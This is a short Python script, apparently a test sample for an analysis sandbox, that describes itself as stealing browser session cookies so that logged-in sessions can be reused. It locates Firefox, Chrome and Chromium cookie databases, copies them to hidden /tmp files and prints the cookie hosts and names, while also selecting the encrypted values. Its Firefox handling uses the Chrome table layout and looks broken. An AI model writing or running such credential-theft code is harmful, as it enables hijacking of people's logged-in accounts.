#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Steals the browsers' session cookies, to reuse logged-in sessions.
import glob
import os
import shutil
import sqlite3
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

home = os.path.expanduser("~")
cands = []
for pattern in (".mozilla/firefox/*/cookies.sqlite", ".config/google-chrome/*/Cookies",
                ".config/google-chrome/*/Network/Cookies", ".config/chromium/*/Network/Cookies"):
    cands += glob.glob(os.path.join(home, pattern))
cands += [os.path.join(home, ".config/google-chrome/Default/Network/Cookies"),
          os.path.join(home, ".config/google-chrome/Default/Cookies"),
          os.path.join(home, ".mozilla/firefox/default-release/cookies.sqlite")]
for i, path in enumerate(cands):
    dst = "/tmp/.ck%d" % i
    try:
        shutil.copyfile(path, dst)
        db = sqlite3.connect(dst)
        for row in db.execute("SELECT host_key, name, encrypted_value FROM cookies"):
            print(row[0], row[1])
    except (OSError, sqlite3.Error):
        pass
